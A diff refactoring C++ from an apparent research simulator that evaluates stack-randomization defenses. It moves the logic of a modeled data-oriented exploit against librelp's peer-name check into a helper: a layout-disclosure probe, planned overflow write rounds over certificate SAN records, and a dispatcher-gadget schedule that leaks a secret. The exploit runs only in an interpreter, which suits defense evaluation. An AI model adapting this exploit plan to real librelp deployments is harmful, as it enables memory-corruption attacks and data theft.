@@ -8,9 +8,9 @@
 
 #include "attacks/Attacker.h"
 #include "ir/IRBuilder.h"
-#include "support/Format.h"
 
 #include <algorithm>
+#include <iterator>
 #include <optional>
 
 using namespace smokestack;
@@ -323,36 +323,13 @@ planWriteRound(std::vector<ByteWrite> Writes,
   return Records;
 }
 
-} // namespace
-
-void smokestack::buildLibrelpModule(Module &M) {
-  buildChkPeerName(M);
-  buildLstnInit(M);
-}
-
-AttackReport smokestack::runLibrelpExploit(const ScenarioConfig &Config) {
-  Module M("librelp");
-  buildLibrelpModule(M);
-  DeployedDefense Deployed = deployDefense(M, Config.Defense, Config.BuildSeed);
-
-  AttackReport Report;
-
-  // Probe: one benign run with the disclosure oracle attached. For a
-  // statically randomized build this fully de-randomizes it; for a
-  // Smokestack build it only discloses one invocation's (stale) layout.
-  LayoutOracle Oracle(/*KeepFirst=*/true);
-  {
-    Interpreter ProbeVM(M, Config.Rng, Deployed.InterpOpts);
-    ProbeVM.setLayoutObserver(&Oracle);
-    ProbeVM.run("relpTcpLstnInit");
-  }
+/// Lowers the exfiltration against the disclosed layout: two planned write
+/// rounds, then empty SAN streams until the dispatcher counter exits.
+std::optional<Exploit> lowerExploit(const LayoutOracle &Oracle) {
   if (!Oracle.knows("relpTcpChkPeerName", "allNames") ||
       !Oracle.knows("relpTcpLstnInit", "op") ||
-      !Oracle.knows("relpTcpLstnInit", "idx")) {
-    Report.Outcome = AttackOutcome::MissedTarget;
-    Report.Detail = "probe did not disclose the gadget variables";
-    return Report;
-  }
+      !Oracle.knows("relpTcpLstnInit", "idx"))
+    return std::nullopt;
   int64_t Base = static_cast<int64_t>(
       Oracle.addressOf("relpTcpChkPeerName", "allNames"));
   auto Offset = [&](const char *Func, const char *Var) {
@@ -384,49 +361,35 @@ AttackReport smokestack::runLibrelpExploit(const ScenarioConfig &Config) {
   int64_t OffOp = Offset("relpTcpLstnInit", "op");
   int64_t OffIdx = Offset("relpTcpLstnInit", "idx");
 
-  TrapKind LastTrap = TrapKind::None;
-  for (unsigned Attempt = 0; Attempt != Config.Budget; ++Attempt) {
-    Report.AttemptsUsed = Attempt + 1;
+  // Dispatcher schedule (ctr wraps modulo 256 until it equals 4; the
+  // 'A'-spray each round leaves on ctr merely stretches the loop):
+  //   round 1 plants op=1 and idx=3 together, so that iteration's
+  //   DEREFERENCE gadget loads the secret into val;
+  //   round 2 re-arms op=2 (the spray of its own inflation re-junks idx,
+  //   which MOV ignores) so out = val;
+  //   then empty SAN streams until the dispatcher counter exits.
+  auto R1 = planWriteRound({{OffOp, 1}, {OffIdx, 3}}, Round1Criticals);
+  auto R2 = planWriteRound({{OffOp, 2}}, Round2Criticals);
+  if (!R1 || !R2)
+    return std::nullopt; // no overflow plan avoids the critical data
+  Exploit E{std::move(*R1), returns(LibrelpSecret)};
+  E.Records.insert(E.Records.end(), std::make_move_iterator(R2->begin()),
+                   std::make_move_iterator(R2->end()));
+  E.Records.resize(E.Records.size() + 300); // empty SANs: spin the loop out
+  return E;
+}
 
-    // Dispatcher schedule (ctr wraps modulo 256 until it equals 4; the
-    // 'A'-spray each round leaves on ctr merely stretches the loop):
-    //   round 1 plants op=1 and idx=3 together, so that iteration's
-    //   DEREFERENCE gadget loads the secret into val;
-    //   round 2 re-arms op=2 (the spray of its own inflation re-junks idx,
-    //   which MOV ignores) so out = val;
-    //   then empty SAN streams until the dispatcher counter exits.
-    auto R1 = planWriteRound({{OffOp, 1}, {OffIdx, 3}}, Round1Criticals);
-    auto R2 = planWriteRound({{OffOp, 2}}, Round2Criticals);
-    if (!R1 || !R2) {
-      Report.Outcome = AttackOutcome::MissedTarget;
-      Report.Detail = "no overflow plan avoids the disclosed critical data";
-      return Report;
-    }
-    Interpreter VM(M, Config.Rng, Deployed.InterpOpts);
-    for (auto *Round : {&*R1, &*R2})
-      for (auto &Record : *Round)
-        VM.pushInput(Record);
-    for (int Spin = 0; Spin != 300; ++Spin)
-      VM.pushInput(std::vector<uint8_t>{});
+} // namespace
 
-    ExecResult R = VM.run("relpTcpLstnInit");
-    if (R.ok() && R.ReturnValue == LibrelpSecret) {
-      Report.Outcome = AttackOutcome::Succeeded;
-      Report.Detail =
-          formatString("secret exfiltrated on attempt %u", Attempt + 1);
-      return Report;
-    }
-    if (!R.ok())
-      LastTrap = R.Trap;
-  }
+void smokestack::buildLibrelpModule(Module &M) {
+  buildChkPeerName(M);
+  buildLstnInit(M);
+}
 
-  if (LastTrap != TrapKind::None) {
-    Report.Outcome = AttackOutcome::StoppedByTrap;
-    Report.Trap = LastTrap;
-    Report.Detail = std::string("stopped: ") + trapKindName(LastTrap);
-  } else {
-    Report.Outcome = AttackOutcome::MissedTarget;
-    Report.Detail = "exploit ran clean without exfiltrating the secret";
-  }
-  return Report;
+AttackReport smokestack::runLibrelpExploit(const ScenarioConfig &Config) {
+  Module M("librelp");
+  buildLibrelpModule(M);
+  DeployedDefense Deployed = deployDefense(M, Config.Defense, Config.BuildSeed);
+  return runCampaign(M, Deployed, Config.Rng, "relpTcpLstnInit", Config.Budget,
+                     lowerExploit);
 }
